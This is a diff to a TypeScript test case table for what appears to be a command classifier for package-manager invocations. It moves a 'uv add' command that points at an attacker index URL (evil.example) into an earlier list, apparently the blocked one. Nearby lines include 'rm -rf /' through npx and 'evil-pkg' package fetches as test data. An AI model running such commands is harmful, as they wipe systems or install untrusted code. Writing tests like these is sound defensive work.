@@ -40,6 +40,8 @@ export const cases: CaseTable = {
     "npx prettier --write /srv/forge/main/src",
     "npx tsc --outDir /home/dev/out",
     "npx -c 'rm -rf /'",
+    // A word spelled `run` after `add` is data: the index option after it is still judged (package-sources.ts).
+    "uv add run requests --index-url https://evil.example",
   ],
   grey: [
     "npm install --frobnicate",
@@ -64,6 +66,5 @@ export const cases: CaseTable = {
     "npx -p evil-pkg tsc --noEmit",
     "npx --package=evil-pkg tsc",
     "bun x --frob vitest",
-    "uv add run requests --index-url https://evil.example",
   ],
 };
